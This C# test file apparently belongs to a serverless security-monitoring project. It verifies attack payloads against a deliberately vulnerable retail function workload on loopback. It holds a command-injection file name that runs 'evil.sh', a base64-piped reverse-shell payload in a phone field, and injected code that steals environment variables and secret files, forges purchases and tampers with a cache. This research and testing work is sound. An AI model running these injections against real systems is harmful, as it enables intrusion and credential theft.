using System.Text;
using System.Text.Json;
using FaaSMon.Workload;
using Microsoft.AspNetCore.Http;

namespace FaaSMon.Functions.Tests;

/// <summary>
/// Each attack payload, run against the same vulnerable construct the hello-retail function uses (a shell command line,
/// <c>new Function</c>), with real sh and node, and a real attacker server or listener on 127.0.0.1.
/// </summary>
public sealed class WorkloadPayloadTests : IAsyncLifetime
{
    private string _directory = "";

    public Task InitializeAsync()
    {
        _directory = WorkloadProcesses.NewTempDirectory();
        return Task.CompletedTask;
    }

    public Task DisposeAsync()
    {
        Directory.Delete(_directory, recursive: true);
        return Task.CompletedTask;
    }

    [Fact]
    public async Task Container_reuse_trigger_url_decodes_to_the_injection_file_name_the_way_the_function_decodes_it()
    {
        var attacker = new Uri("http://127.0.0.1:41234/");
        var url = AttackPayloads.ContainerReuseTriggerUrl(attacker, "00112233aabbccdd");

        // product-photos-receive: decodeURIComponent(new URL(url).pathname.split('/').pop())
        var decoded = await WorkloadProcesses.RunAsync(
            "node",
            ["-e", "process.stdout.write(decodeURIComponent(new URL(process.argv[1]).pathname.split('/').pop()))", url.AbsoluteUri]);

        Assert.Equal(0, decoded.ExitCode);
        Assert.Equal(AttackPayloads.ContainerReuseTriggerName(attacker, "00112233aabbccdd"), decoded.StandardOutput);
        Assert.Equal("evil.sh\";chmod +x evil.sh;PATH=.:$PATH evil.sh 127.0.0.1:41234 00112233aabbccdd;echo \"", decoded.StandardOutput);
        Assert.DoesNotContain('/', decoded.StandardOutput);
        Assert.DoesNotContain('"', url.AbsolutePath);
        Assert.DoesNotContain(' ', url.AbsoluteUri);
        Assert.EndsWith("/stage/00112233aabbccdd/evil.sh", AttackPayloads.ContainerReuseStageUrl(attacker, "00112233aabbccdd").AbsoluteUri, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Container_reuse_staged_file_runs_through_the_sha256sum_command_and_beacons()
    {
        await using var attacker = await AttackerServer.StartAsync(CancellationToken.None);
        var nonce = AttackPayloads.NewNonce();
        using var http = new HttpClient();

        // Invocation A: the download of evil.sh into the warm /tmp (here a temp folder).
        var evil = await http.GetByteArrayAsync(AttackPayloads.ContainerReuseStageUrl(attacker.BaseUri, nonce));
        await File.WriteAllBytesAsync(Path.Combine(_directory, "evil.sh"), evil);
        Assert.True(attacker.HasReceived(CallbackKind.StageDownload, nonce));

        // Invocation B: the trigger's download lands under its decoded name, then the function hashes it in a shell.
        var name = AttackPayloads.ContainerReuseTriggerName(attacker.BaseUri, nonce);
        var decoy = await http.GetByteArrayAsync(AttackPayloads.ContainerReuseTriggerUrl(attacker.BaseUri, nonce));
        await File.WriteAllBytesAsync(Path.Combine(_directory, name), decoy);
        var hashed = await WorkloadProcesses.RunAsync("/bin/sh", ["-c", $"sha256sum \"{name}\""], workingDirectory: _directory);

        Assert.Matches("^[0-9a-f]{64}\\s", hashed.StandardOutput); // the function finds a checksum and answers 200
        var beacon = await attacker.WaitForAsync(CallbackKind.Beacon, nonce, TimeSpan.FromSeconds(10), CancellationToken.None);
        Assert.NotNull(beacon);
        Assert.Equal(Environment.MachineName, beacon.Host);
        Assert.StartsWith("#!/bin/sh\n", Encoding.UTF8.GetString(evil), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Credential_theft_sort_posts_environment_and_secret_files_once_and_still_sorts()
    {
        await using var attacker = await AttackerServer.StartAsync(CancellationToken.None);
        var nonce = AttackPayloads.NewNonce();
        var secrets = Directory.CreateDirectory(Path.Combine(_directory, "secrets")).FullName;
        await File.WriteAllTextAsync(Path.Combine(secrets, "payment-api-key"), "k-123456");
        await File.WriteAllTextAsync(Path.Combine(secrets, "auth-token-key"), "t-654321");

        // Two "invocations" in one warm process: the exfiltration must happen once.
        var harness = await WriteHarnessAsync("sort.js", """
            const cmp = new Function('a', 'b', 'return ' + process.env.EXPR);
            const run = () => [{id:'p-cam-002',price:2498},{id:'p-cam-001',price:2499},{id:'p-cam-003',price:1996.95}].sort(cmp).map(p => p.id).join(',');
            console.log(run());
            console.log(run());
            """);
        var result = await WorkloadProcesses.RunAsync("node", [harness], new Dictionary<string, string>
        {
            ["EXPR"] = AttackPayloads.CredentialTheftSort(attacker.BaseUri, nonce),
            ["PGPASSWORD"] = "pg-secret-value",
            ["secret_mount_path"] = secrets,
        });

        Assert.True(result.ExitCode == 0, result.StandardError);
        Assert.Equal("p-cam-003,p-cam-002,p-cam-001\np-cam-003,p-cam-002,p-cam-001\n", result.StandardOutput);
        var exfil = await attacker.WaitForAsync(CallbackKind.Exfil, nonce, TimeSpan.FromSeconds(10), CancellationToken.None);
        Assert.NotNull(exfil);
        using var stolen = JsonDocument.Parse(exfil.Body);
        Assert.Equal("pg-secret-value", stolen.RootElement.GetProperty("env").GetProperty("PGPASSWORD").GetString());
        Assert.Equal("k-123456", stolen.RootElement.GetProperty("secrets").GetProperty("payment-api-key").GetString());
        Assert.Equal("t-654321", stolen.RootElement.GetProperty("secrets").GetProperty("auth-token-key").GetString());
        await Task.Delay(300);
        Assert.Single(attacker.Callbacks, c => c.Kind == CallbackKind.Exfil && c.Nonce == nonce);
    }

    [Fact]
    public async Task Lateral_movement_coupon_posts_a_forged_purchase_to_publish_and_returns_the_list_price()
    {
        var received = new TaskCompletionSource<(string Path, string Body, bool HasCallId)>(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var gateway = await LoopbackHttpServer.StartAsync(
            async context =>
            {
                using var reader = new StreamReader(context.Request.Body);
                var body = await reader.ReadToEndAsync();
                received.TrySetResult((context.Request.Path.Value ?? "", body, context.Request.Headers.ContainsKey("X-Call-Id")));
                context.Response.StatusCode = 200;
                await context.Response.WriteAsync("""{"purchase":"pu-1","status":"published"}""");
            },
            CancellationToken.None);
        var nonce = AttackPayloads.NewNonce();
        var harness = await WriteHarnessAsync("coupon.js", """
            const formula = new Function('price', 'quantity', 'return ' + process.env.COUPON);
            const result = formula(2499, 2);
            console.log(typeof result, result);
            """);

        var result = await WorkloadProcesses.RunAsync("node", [harness], new Dictionary<string, string>
        {
            ["COUPON"] = AttackPayloads.LateralMovementCoupon(nonce),
            ["gateway_url"] = gateway.BaseUri.AbsoluteUri, // with a trailing slash, which the payload trims
        });

        Assert.True(result.ExitCode == 0, result.StandardError);
        Assert.Equal("number 2499\n", result.StandardOutput);
        var publish = await received.Task.WaitAsync(TimeSpan.FromSeconds(10));
        Assert.Equal("/function/product-purchase-publish", publish.Path);
        Assert.False(publish.HasCallId); // nothing legitimate is forwarded
        using var purchase = JsonDocument.Parse(publish.Body);
        Assert.Equal($"mallory-{nonce}", purchase.RootElement.GetProperty("user").GetString());
        Assert.Equal($"forged-{nonce}", purchase.RootElement.GetProperty("authorization").GetString());
        Assert.Equal(1, purchase.RootElement.GetProperty("quantity").GetInt32());
        Assert.Equal(AttackPayloads.VictimProduct, purchase.RootElement.GetProperty("product").GetString());
    }

    [Fact]
    public async Task Reverse_shell_phone_decodes_to_a_script_that_connects_to_the_listener_port()
    {
        var phone = AttackPayloads.ReverseShellPhone("127.0.0.1", 45678);

        Assert.StartsWith("x\"; echo ", phone, StringComparison.Ordinal);
        Assert.EndsWith(" | base64 -d | sh >/dev/null 2>&1 & echo \"", phone, StringComparison.Ordinal);
        Assert.True(phone.Length < 1000, $"product-photos-message accepts phones up to 1000 characters, this one has {phone.Length}");
        var base64 = phone["x\"; echo ".Length..phone.IndexOf(" | base64", StringComparison.Ordinal)];
        var script = Encoding.UTF8.GetString(Convert.FromBase64String(base64));
        Assert.StartsWith("#!/bin/sh\nexec node -e '", script, StringComparison.Ordinal);
        Assert.Contains("connect(45678,\"127.0.0.1\"", script, StringComparison.Ordinal);
        Assert.Contains("spawn(\"/bin/sh\",[\"-i\"]", script, StringComparison.Ordinal);
        Assert.Equal(2, script.Count(c => c == '\'')); // the node program itself holds no single quote
    }

    [Fact]
    public async Task Reverse_shell_phone_in_the_message_command_gives_the_listener_a_shell_that_answers_the_probe()
    {
        await using var listener = ReverseShellListener.Start();
        var nonce = AttackPayloads.NewNonce();
        var probe = listener.RunProbeAsync(nonce, TimeSpan.FromSeconds(20), CancellationToken.None);
        var phone = AttackPayloads.ReverseShellPhone(listener.Host, listener.Port);
        var outbox = Path.Combine(_directory, "outbox.log");

        // product-photos-message's command line, with the outbox moved out of /tmp.
        var sent = await WorkloadProcesses.RunAsync(
            "/bin/sh", ["-c", $"echo \"To {phone}: Hi Pat, please photograph p-cam-001.\" >> {outbox}"], timeout: TimeSpan.FromSeconds(5));

        Assert.Equal(0, sent.ExitCode); // the function answers at once: the shell runs in the background
        var session = await probe;
        Assert.NotNull(session);
        Assert.True(session.Answered, session.Transcript);
        var uid = await WorkloadProcesses.RunAsync("id", ["-u"]);
        Assert.Equal(int.Parse(uid.StandardOutput.Trim(), provider: null), session.Uid);
        Assert.Contains($"FAASMON-{nonce}-{session.Uid}", session.Transcript, StringComparison.Ordinal);
        Assert.Equal("To x\n", sent.StandardOutput); // the first echo, cut short by the injected quote
        Assert.Equal(": Hi Pat, please photograph p-cam-001.\n", await File.ReadAllTextAsync(outbox)); // and the message still goes out
    }

    [Fact]
    public async Task Tampering_sort_rewrites_the_cache_keeping_products_and_never_expiring()
    {
        var nonce = AttackPayloads.NewNonce();
        var cache = Path.Combine(_directory, "catalog-cache.json");
        var now = DateTimeOffset.UtcNow.ToUnixTimeMilliseconds();
        await File.WriteAllTextAsync(cache, JsonSerializer.Serialize(new
        {
            expires = now + 30_000,
            products = new Dictionary<string, object>
            {
                ["p-cam-001"] = new { id = "p-cam-001", category = "cameras", name = "EOS R6 Mark II", price = 2499 },
                ["p-len-001"] = new { id = "p-len-001", category = "lenses", name = "RF 24-105mm", price = 1399 },
            },
        }));
        var harness = await WriteHarnessAsync("tamper.js", """
            const cmp = new Function('a', 'b', 'return ' + process.env.EXPR);
            const products = [{id:'p-cam-002',price:2498},{id:'p-cam-001',price:2499},{id:'p-cam-004',price:1699}];
            console.log(products.sort(cmp).map(p => p.id).join(','));
            """);

        // The payload targets /tmp/catalog-cache.json; the test points it at its own folder instead of the host's /tmp.
        var expression = AttackPayloads.TamperingSort(nonce).Replace(AttackPayloads.CatalogCacheFile, cache, StringComparison.Ordinal);
        var result = await WorkloadProcesses.RunAsync("node", [harness], new Dictionary<string, string> { ["EXPR"] = expression });

        Assert.True(result.ExitCode == 0, result.StandardError);
        Assert.Equal("p-cam-004,p-cam-002,p-cam-001\n", result.StandardOutput);
        using var tampered = JsonDocument.Parse(await File.ReadAllTextAsync(cache));
        var root = tampered.RootElement;
        Assert.True(root.GetProperty("expires").GetDouble() > now + TimeSpan.FromDays(3650).TotalMilliseconds - 60_000);
        var products = root.GetProperty("products");
        Assert.Equal(0.01, products.GetProperty("p-cam-001").GetProperty("price").GetDouble());
        Assert.Equal(nonce, products.GetProperty("p-cam-001").GetProperty("tampered").GetString());
        Assert.Equal("EOS R6 Mark II", products.GetProperty("p-cam-001").GetProperty("name").GetString());
        Assert.Equal(1399, products.GetProperty("p-len-001").GetProperty("price").GetDouble());
        Assert.Equal(2498, products.GetProperty("p-cam-002").GetProperty("price").GetDouble());
    }

    [Fact]
    public void Code_payloads_are_single_line_because_return_followed_by_a_newline_returns_undefined()
    {
        var attacker = new Uri("http://127.0.0.1:41234/");
        string[] expressions =
        [
            AttackPayloads.CredentialTheftSort(attacker, "00112233aabbccdd"),
            AttackPayloads.LateralMovementCoupon("00112233aabbccdd"),
            AttackPayloads.TamperingSort("00112233aabbccdd"),
        ];

        Assert.All(expressions, e => Assert.DoesNotContain('\n', e));
        Assert.All(expressions, e => Assert.True(e.Length < 10_000, "the functions refuse expressions of 10000 characters or more"));
        Assert.NotEqual(AttackPayloads.NewNonce(), AttackPayloads.NewNonce());
        Assert.Matches("^[0-9a-f]{16}$", AttackPayloads.NewNonce());
    }

    private async Task<string> WriteHarnessAsync(string name, string source)
    {
        // Run as a CommonJS entry point, as index.js is, so process.mainModule exists as it does in a function.
        var path = Path.Combine(_directory, name);
        await File.WriteAllTextAsync(path, source);
        return path;
    }
}
